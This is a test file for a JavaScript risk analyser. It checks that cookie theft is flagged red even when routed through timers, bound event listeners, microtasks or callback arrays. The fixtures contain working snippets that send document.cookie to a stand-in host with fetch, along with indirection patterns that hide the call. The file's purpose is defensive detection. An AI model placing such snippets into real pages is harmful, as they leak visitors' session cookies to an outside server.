import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { traceOf } from "../testing/trace-of.ts";

const SEND = `const send = (text) => fetch("https://c.test/?" + text);`;
const OTHERS = Array.from({ length: 14 }, (_, index) => `"a${index}"`).join();

describe("many calls of one function", () => {
	test.each([
		["timers", `for (const text of [${OTHERS}, document.cookie]) setTimeout(send, 9, text);`],
		[
			"timers with functions of their own",
			`[${OTHERS}, document.cookie].forEach((text) => setTimeout(() => send(text)));`,
		],
		[
			"bound listeners",
			`for (const text of [${OTHERS}, document.cookie]) addEventListener("scroll", send.bind(null, text));`,
		],
		["microtasks", `for (const text of [${OTHERS}, document.cookie]) queueMicrotask(() => send(text));`],
	])("%s: none is left out", (_title, code) => {
		expect(analyzeScript({ code: SEND + code }).risk_level).toBe("red");
		expect(traceOf(SEND + code).status).toBe("complete");
		expect(analyzeScript({ code: SEND + code.replace("document.cookie", "'b'") }).risk_level).toBe("green");
	});
});

test("more functions of one place than the limit: the trace is incomplete", () => {
	const arms = Array.from(
		{ length: 50 },
		(_, at) => `addEventListener("e${at}", () => { arm("a"); arm("b"); arm(${at}); });`,
	);
	const code = `${SEND} const arm = (text) => { setTimeout(() => send(text)); return text; }; ${arms.join("\n")} addEventListener("x", () => arm(document.cookie));`;
	expect(traceOf(code).status).toBe("exhausted");
	expect(analyzeScript({ code }).risk_level).not.toBe("green");
});
